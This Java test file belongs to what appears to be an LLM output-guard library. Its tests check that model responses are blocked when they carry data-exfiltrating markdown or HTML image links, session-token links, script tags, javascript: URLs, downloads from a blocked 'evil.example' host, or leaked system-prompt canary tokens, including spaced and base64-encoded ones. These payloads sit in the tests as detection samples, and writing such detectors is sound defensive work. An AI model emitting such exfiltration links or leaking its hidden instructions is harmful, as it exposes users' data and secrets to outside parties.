package io.rampart.guard;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;

class OutputAndCanaryTest {
  private final GuardEngine engine =
      GuardEngine.create(Engines.fastOnly().blockDomain("evil.example").trustDomain("docs.rampart.dev").build());

  @Test
  void markdownImageCarryingDataIsExfiltration() {
    Verdict v = engine.inspectResponse(
        "Done! ![status](https://collector.example.net/p.png?d=the%20user%20email%20is%20ann%40corp.com)");
    assertThat(v.blocked()).isTrue();
    assertThat(v.categories()).containsExactly(Category.OUTPUT_EXFILTRATION);
    assertThat(v.catalogIds()).contains("LLM05", "AML.T0077");
  }

  @Test
  void htmlImageAndDataLinksAreCaught() {
    assertThat(engine.inspectResponse("<img src=\"https://x.example.org/a?q=c2VjcmV0IGFwaSBrZXkgaXMgMTIzNA\">").blocked()).isTrue();
    Verdict link = engine.inspectResponse("[click](https://x.example.org/c?session=abcdefghijklmnopqrstuvwxyz012345)");
    assertThat(link.spans()).anyMatch(s -> s.rule().equals("output.link-exfiltration"));
  }

  @Test
  void ordinaryLinksAndTrustedImagesAreAllowed() {
    assertThat(engine.inspectResponse("See [the docs](https://docs.rampart.dev/guide) and ![logo](https://docs.rampart.dev/logo.png?v=2)").blocked()).isFalse();
    assertThat(engine.inspectResponse("Read https://en.wikipedia.org/wiki/Prompt_injection for background.").blocked()).isFalse();
  }

  @Test
  void activeHtmlAndBlockedDomainsBlock() {
    Verdict script = engine.inspectResponse("Here you go: <script>fetch('/steal')</script>");
    assertThat(script.categories()).contains(Category.OUTPUT_SCRIPT);
    assertThat(engine.inspectResponse("<a href=\"javascript:alert(1)\">x</a>").blocked()).isTrue();
    assertThat(engine.inspectResponse("<div onmouseover=\"go()\">hi</div>").blocked()).isTrue();
    Verdict domain = engine.inspectResponse("Download it from https://cdn.evil.example/tool.exe");
    assertThat(domain.categories()).containsExactly(Category.BLOCKED_URL);
  }

  @Test
  void canaryLeaksAreFoundPlainSpacedAndEncoded() {
    Canary canary = Canary.create(new SplittableRandom(7));
    assertThat(canary.marker()).contains(canary.token());
    assertThat(engine.inspectResponse("My instructions say " + canary.token(), canary).categories())
        .containsExactly(Category.SYSTEM_PROMPT_LEAK);
    String spaced = String.join(" ", canary.token().split(""));
    assertThat(engine.inspectResponse("ref: " + spaced, canary).blocked()).isTrue();
    String b64 = Base64.getEncoder().encodeToString(("ref " + canary.token()).getBytes(StandardCharsets.UTF_8));
    assertThat(engine.inspectResponse("encoded: " + b64, canary).blocked()).isTrue();
    assertThat(engine.inspectResponse("The capital of France is Paris.", canary).blocked()).isFalse();
  }

  @Test
  void canariesAreUnguessableAndReproducibleFromTheSeed() {
    assertThat(Canary.create(new SplittableRandom(1))).isEqualTo(Canary.create(new SplittableRandom(1)));
    assertThat(Canary.create(new SplittableRandom(1))).isNotEqualTo(Canary.create(new SplittableRandom(2)));
  }
}
